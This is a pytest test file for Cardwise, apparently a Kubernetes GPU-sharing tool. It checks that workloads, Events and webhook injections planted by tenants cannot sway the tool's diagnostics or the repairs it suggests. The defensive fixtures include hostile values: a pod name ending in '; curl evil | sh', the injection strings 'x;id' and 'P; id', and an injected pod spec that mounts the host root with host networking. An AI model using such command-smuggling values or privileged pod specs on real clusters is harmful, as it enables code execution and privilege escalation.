"""What tenants write into their own namespaces changes nothing of what doctor and explain say of Cardwise."""

import math
from collections.abc import Iterator, Sequence
from typing import Any, Final

import pytest

from cardwise.cli.cluster import podevents, schedulers
from cardwise.cli.doctor import before, checks, exposure, facts, probing, repairs
from cardwise.cli.doctor.facts import Facts
from cardwise.cli.doctor.finding import Finding, Severity
from cardwise.core.api import names
from cardwise.core.values.decoded import Json
from tests.cli.clusters import Cluster
from tests.cli.doctor import planted
from tests.cli.doctor.planted import part
from tests.fakes.apiserver import Request

TENANT: Final = "a-team"  # the API server lists its objects before those of cardwise-system
EVIL: Final = "registry.evil.example/sh:1"
IMAGE: Final = "registry.example/cardwise:1"
FOREIGN_NAMES: Final = (
    "my-gpushare-device-plugin", "gpushare-schd-extender", "nvidia-device-plugin", "hami-device-plugin",
)  # fmt: skip


def workload_of(workload: Json, image: str, *arguments: str, **annotations: str) -> Json:
    """A part of the chart with this image and these arguments."""
    metadata = workload["metadata"]
    metadata["labels"] = {"app.kubernetes.io/name": "cardwise"}
    metadata["annotations"] = metadata["annotations"] | annotations
    workload["spec"]["template"]["spec"]["containers"] = [{"name": "c", "image": image, "args": list(arguments)}]
    return workload


def installed(*, own_scheduler: bool = False) -> Cluster:
    """A cluster with Cardwise, whose webhook is open to pods, and with a pod whose scheduler has gone."""
    seen = planted.installation()
    api = Cluster({"nodes": seen.nodes, "extendedresources": seen.cards, "leases": [*seen.node_leases, *seen.leases]})
    service = {"namespace": names.NAMESPACE, "name": "cardwise-webhook", "path": "/mutate"}
    for kind, configurations in (("mutating", seen.mutating_webhooks), ("validating", seen.validating_webhooks)):
        for configuration in configurations:
            configuration["webhooks"][0]["clientConfig"]["service"] = service
        api.add(f"{kind}webhookconfigurations", *configurations)
    api.add("validatingadmissionpolicies", *seen.policies)
    api.add("validatingadmissionpolicybindings", *seen.policy_bindings)
    api.add("namespaces", {"metadata": {"name": names.NAMESPACE}}, {"metadata": {"name": "fair"}})
    api.add("deployments", *(workload_of(part(name), IMAGE) for name in ("webhook", "extender")))
    api.add("daemonsets", workload_of(part("deviceplugin", "DaemonSet"), IMAGE))
    if own_scheduler:
        api.add("deployments", workload_of(part("scheduler"), IMAGE))
    else:
        waiting = {"metadata": {"namespace": "fair", "name": "p"}, "spec": {"schedulerName": names.SCHEDULER}}
        api.add("pods", waiting | {"status": {"phase": "Pending"}})
    return api


def plant_workloads(api: Cluster) -> None:
    """All names, labels and annotations of the chart, and names of other plugins."""
    evil: dict[str, Any] = {
        names.SCHEDULER_NAME: "volcano", "meta.helm.sh/release-name": "x;id", "meta.helm.sh/release-namespace": TENANT,
    }  # fmt: skip
    for kind in ("DaemonSet", "Deployment"):
        for name in ("webhook", "extender", "scheduler", "deviceplugin", "mps"):
            workload = workload_of(part(name, kind), EVIL, "--client-ca=/x", "--exempt-namespaces=fair", **evil)
            workload["metadata"]["namespace"] = TENANT
            api.add(f"{kind.lower()}s", workload)
        for name in FOREIGN_NAMES:
            workload = workload_of(part("x", kind), EVIL, "--memory-unit=GiB")
            workload["metadata"] |= {"namespace": TENANT, "name": name}
            api.add(f"{kind.lower()}s", workload)
    lease = planted.lease(names.LEASE, age=0.0, namespace=TENANT)
    policy = {"podSelector": {}, "policyTypes": ["Ingress"]}
    api.add("leases", lease)
    api.add("networkpolicies", {"metadata": {"namespace": TENANT, "name": "all"}, "spec": policy})


def findings(api: Cluster) -> list[Finding]:
    return list(checks.check_facts(facts.read_facts(api.kube)))


def added(sound: Sequence[Finding], after: Sequence[Finding]) -> Iterator[Finding]:
    return (finding for finding in after if finding not in sound)


@pytest.mark.parametrize("own_scheduler", [False, True])
def test_workloads_of_tenants_silence_no_problem_and_change_no_remedy(own_scheduler):
    api = installed(own_scheduler=own_scheduler)
    sound = findings(api)
    assert any("the webhook is open to pods" in finding.text for finding in sound)
    assert own_scheduler != any("wait for the scheduler" in f.text or "waits for the sch" in f.text for f in sound)
    plant_workloads(api)
    after = findings(api)
    assert {finding.level for finding in added(after, sound)} <= {Severity.OK}, "no trouble is silenced"
    additions = [*added(sound, after)]
    assert [(finding.check, finding.level) for finding in additions] == [
        ("other-plugins", Severity.NOTE), ("gpushare", Severity.NOTE),
    ]  # fmt: skip
    assert all("workloads in user namespaces are named like" in finding.text for finding in additions)
    assert not any("webhook.gpuMemUnit" in finding.remedy for finding in after)


def test_the_image_of_pods_that_doctor_starts_is_never_a_tenants():
    api = installed()
    plant_workloads(api)
    seen = facts.read_facts(api.kube)
    assert {manifest["spec"]["containers"][0]["image"] for manifest in looked_with(api, seen)} == {IMAGE}
    api.replace(
        "daemonsets",
        *(daemonset for daemonset in api.objects("daemonsets") if daemonset["metadata"]["namespace"] == TENANT),
    )
    seen = facts.read_facts(api.kube)
    (finding,) = exposure.check_exposure(api.kube, "default", names.NAMESPACE, seen)
    assert "not tested whether pods without a GPU request get one: no image" in finding.text


def looked_with(api: Cluster, seen: Facts) -> list[Json]:
    """The pods that doctor creates."""
    created: list[Json] = []

    def end(request: Any) -> None:
        created.append(request.body)
        request.body["status"] = {"phase": "Succeeded"}

    api.before_request(end, "create", times=math.inf)
    list(exposure.check_exposure(api.kube, "default", names.NAMESPACE, seen, clock=api.clock))
    assert created
    return created


def test_a_tenants_scheduler_changes_no_remedy_and_no_sentence_of_explain():
    api = installed()
    sound = facts.read_facts(api.kube)
    plant_workloads(api)
    after = facts.read_facts(api.kube)
    suggestions = (
        repairs.suggest_scheduler_configuration,
        repairs.suggest_certificate_renewal,
        repairs.upgrade_command,
    )
    for remedy in suggestions:
        assert remedy(sound) == remedy(after)
    deployments = schedulers.read_deployments(api.kube, names.NAMESPACE)
    assert deployments == []
    assert schedulers.scheduler_names(deployments) == frozenset()


def test_before_an_installation_a_tenants_workloads_propose_no_value():
    api = Cluster({})
    plant_workloads(api)
    for kind in ("daemonsets", "deployments"):
        api.replace(
            kind, *(manifest for manifest in api.objects(kind) if manifest["metadata"]["name"] in FOREIGN_NAMES)
        )
    seen = before.read_preinstall_facts(api.kube, names.NAMESPACE)
    all_findings = [*before.check_preinstall_facts(seen, names.NAMESPACE)]
    assert any("in user namespaces" in finding.text for finding in all_findings)
    assert not any("webhook.gpuMemUnit" in finding.remedy for finding in all_findings)


def forged(event: str, reason: str, message: str = "", **about: str) -> Json:
    """An Event that a tenant writes into its namespace."""
    metadata = {"namespace": TENANT, "name": event}
    text = {"reason": reason, "message": message, "type": "Warning", "reportingComponent": "cardwise-extender"}
    return {"metadata": metadata, "involvedObject": about, "lastTimestamp": "2026-01-01T00:00:00Z"} | text


def test_events_of_tenants_name_no_node_for_deletion_and_wire_no_scheduler():
    api = installed()
    sound = findings(api)
    message = "ExtendedResource gpu-n1-0 belongs to a GPU of node n1, so this node cannot publish its own; x"
    node = {"kind": "Node", "name": "n1"}
    api.add(
        "events",
        forged("e1", names.GPU_ON_ANOTHER_NODE, message, kind="Pod", namespace=TENANT, name="n2"),
        forged("e2", names.GPU_ON_ANOTHER_NODE, message, kind="Pod", namespace=TENANT),
        forged("e3", names.GPU_ON_ANOTHER_NODE, message, **node),
        forged("e4", names.GPU_ON_ANOTHER_NODE, message) | {"metadata": {"namespace": "default", "name": "e4"}},
    )
    assert findings(api) == sound
    name = "Z" * 3000 + "; curl evil | sh"
    api.add(
        "events",
        forged("e5", names.BOUND_WITHOUT_EXTENDER, kind="Pod", namespace=TENANT, name=name),
        forged("e6", names.BOUND_WITHOUT_EXTENDER, kind="Pod", namespace="fair", name="of-another-namespace"),
        forged("e7", names.BOUND_WITHOUT_EXTENDER),
    )
    assert findings(api) == sound
    api.add("events", forged("e8", names.BOUND_WITHOUT_EXTENDER, kind="Pod", namespace=TENANT, name="mine"))
    (addition,) = added(sound, findings(api))
    assert addition.level is Severity.NOTE
    assert "(a-team/mine) disappeared" in addition.text
    assert addition.text.endswith("(Events of cardwise-extender)")
    assert "helm upgrade" not in addition.remedy


@pytest.mark.parametrize(
    "change",
    [
        {"involvedObject": {}}, {"involvedObject": None}, {"involvedObject": {"kind": "Pod", "namespace": TENANT}},
        {"involvedObject": {"kind": "Pod", "namespace": TENANT, "name": "a; id"}},
        {"involvedObject": {"kind": "Pod", "namespace": TENANT, "name": "a" * 254}},
        {"involvedObject": {"kind": "P; id", "namespace": TENANT, "name": "a"}},
        {"involvedObject": {"kind": "Pod", "namespace": "other", "name": "a"}},
        {"involvedObject": {"kind": "Node", "name": "a"}},
        {"lastTimestamp": None}, {"lastTimestamp": "yesterday"}, {"lastTimestamp": "2026-11-21T12:00:00"},
    ],
)  # fmt: skip
def test_what_is_no_event_about_an_object_of_its_namespace_is_none(change):
    event = forged("e", "R" * 5000, "m" * 5000, kind="Pod", namespace=TENANT, name="a")
    read = podevents.parse_event(event)
    assert read is not None
    assert (len(read.reason), len(read.message)) == (128, 1024)
    assert podevents.parse_event(event | change) is None


def test_what_others_make_of_the_probe_is_not_created_in_the_namespace_of_cardwise():
    api = installed()

    def inject(request: Request) -> None:
        if not request.query.get("dryRun"):
            return
        spec, metadata = request.body["spec"], request.body["metadata"]
        sidecar = {"name": "sidecar", "image": EVIL, "resources": {"limits": {names.SHARE: "1"}}}
        spec["containers"][0]["resources"]["limits"][names.SHARE] = "1"
        spec["containers"][0]["resources"] |= {"claims": [{"name": "device"}], "requests": {"cpu": "64"}}
        spec["containers"][0] |= {"image": EVIL, "command": ["sh"], "env": [{"name": "a", "value": "b"}]}
        spec["containers"].insert(0, sidecar)
        spec |= {
            "initContainers": [sidecar], "volumes": [{"name": "v", "hostPath": {"path": "/"}}], "nodeName": "n1",
            "priorityClassName": "high", "hostNetwork": True, "serviceAccountName": "cardwise-extender",
            "schedulerName": names.SCHEDULER,
        }  # fmt: skip
        metadata["annotations"] |= {"theirs.example/inject": "yes", "cardwise.dev/x": "1"}
        metadata["labels"] = {"app.kubernetes.io/component": "webhook"}

    api.before_request(inject, "create", times=math.inf)
    list(probing.run_probe_pod(api.kube, "fair", names.NAMESPACE, api.clock))
    (created,) = (request.body for request in api.sent("create") if not request.query.get("dryRun"))
    spec = created["spec"]
    (container,) = spec["containers"]
    assert (container["image"], container["resources"]["limits"][names.SHARE]) == ("cardwise-doctor-probe", "1")
    assert not {"command", "env"} & container.keys()
    assert container["resources"] == {"limits": {names.GPU_MEM: "1Mi", names.SHARE: "1"}, "requests": {}}
    assert not {"initContainers", "volumes", "nodeName", "hostNetwork", "serviceAccountName"} & spec.keys()
    assert spec["priorityClassName"] == names.PROBE_PRIORITY_CLASS, "it preempts no pod, whatever the default class is"
    assert spec["schedulerName"] == names.SCHEDULER
    assert set(created["metadata"]) <= {
        "name",
        "namespace",
        "annotations",
        "uid",
        "resourceVersion",
        "creationTimestamp",
    }
    assert set(created["metadata"]["annotations"]) == {names.SHARE_AGENT, "cardwise.dev/x"}
